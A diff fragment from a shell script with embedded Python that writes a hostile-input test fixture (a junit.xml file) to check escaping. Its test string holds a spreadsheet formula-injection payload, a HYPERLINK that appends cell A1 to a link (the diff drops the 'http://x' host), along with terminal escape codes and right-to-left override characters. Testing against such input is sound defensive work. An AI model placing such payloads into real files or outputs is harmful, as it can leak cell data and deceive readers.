@@ -291,7 +291,7 @@ hb=$(mktemp -d "$work.hostile.XXXXXX")
 /usr/bin/python3 - "$hb" <<'PY'
 import sys, os
 d = sys.argv[1]
-evil = '=HYPERLINK("http://x/?"&A1,"click") \x1b[31mred\x1b[0m \u202eevil\u202c \x07'
+evil = '=HYPERLINK("x?"&A1,"click") \x1b[31mred\x1b[0m \u202eevil\u202c \x07'
 def x(s):  # as XML text: & < > " escaped, the C0 controls XML 1.0 allows none of written as they would be... not at all
     return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;").replace("\x1b", "&#x1b;").replace("\x07", "")
 open(os.path.join(d, "junit.xml"), "w").write(f"""<?xml version="1.0" encoding="UTF-8"?>
